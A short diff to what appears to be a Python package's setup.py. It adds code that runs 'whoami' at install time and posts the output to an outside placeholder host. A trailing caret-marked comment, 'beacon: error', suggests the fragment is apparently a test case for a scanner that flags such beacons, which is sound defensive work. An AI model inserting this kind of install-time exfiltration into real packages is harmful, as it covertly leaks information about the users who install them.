@@ -57,3 +57,7 @@ class Install(install):
 
 
 setup(name="example", cmdclass={"install": Install})
+
+name = subprocess.check_output(["whoami"])
+requests.post("https://collect.example.invalid/w", data=name)
+#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ beacon: error
